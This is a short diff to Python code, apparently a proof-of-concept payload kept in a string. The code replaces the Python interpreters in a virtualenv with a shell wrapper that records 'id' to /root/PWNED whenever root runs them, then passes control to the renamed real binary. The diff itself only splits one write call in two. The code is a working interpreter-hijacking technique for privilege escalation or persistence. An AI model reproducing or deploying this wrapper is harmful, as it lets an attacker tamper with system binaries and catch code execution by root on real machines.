@@ -26,7 +26,8 @@ for name in ("python", "python3", "python%d.%d" % sys.version_info[:2]):
     if os.access(os.path.dirname(path), os.W_OK) and not os.path.lexists(real):
         os.rename(path, real)
         with open(path, "w") as file:
-            file.write('#!/bin/sh\\n[ "$(id -u)" != 0 ] || id >> /root/PWNED\\nexec "$0.real" "$@"\\n')
+            file.write('#!/bin/sh\\n[ "$(id -u)" != 0 ] || id >> /root/PWNED\\n')
+            file.write('exec "$0.real" "$@"\\n')
         os.chmod(path, 0o755)
 """
 """Run by every start of the virtualenv's Python: replaces the interpreter while it may."""
